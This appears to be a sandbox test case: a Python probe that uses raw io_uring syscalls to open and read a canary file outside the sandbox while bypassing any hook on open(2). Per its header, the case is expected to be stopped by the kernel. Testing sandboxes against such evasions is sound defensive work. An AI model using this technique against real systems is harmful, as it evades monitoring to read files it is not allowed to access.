# /// stoilo-case
# idea = "io uring"
# run = "probe"
# stopped_by = "kernel"
# syscall = "io_uring_setup"
# preload = ["ctypes", "mmap", "struct"]
# control = "host"
# ///
# IORING_OP_OPENAT of the file outside: no open(2) of this process's own is needed.
import ctypes
import mmap
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
parameters = ctypes.create_string_buffer(120)
ring = libc.syscall(425, 4, parameters)
assert ring >= 0
queue = mmap.mmap(ring, 4096, offset=0)
entries = mmap.mmap(ring, 4096, offset=0x10000000)
path = ctypes.create_string_buffer(os.fsencode(CANARY))
entry = struct.pack("=BBHiQQIIQ", 18, 0, 0, -100, 0, ctypes.addressof(path), 0, 0, 7)
entries[: len(entry)] = entry
head, tail, mask, count, flags, dropped, array = struct.unpack_from("=7I", parameters, 40)
queue[array : array + 4] = struct.pack("=I", 0)
queue[tail : tail + 4] = struct.pack("=I", 1)
assert libc.syscall(426, ring, 1, 1, 1, None, 0) == 1
done = struct.unpack_from("=8I", parameters, 80)
result = struct.unpack_from("=Qi", queue, done[5])
print(os.read(result[1], 100).decode())
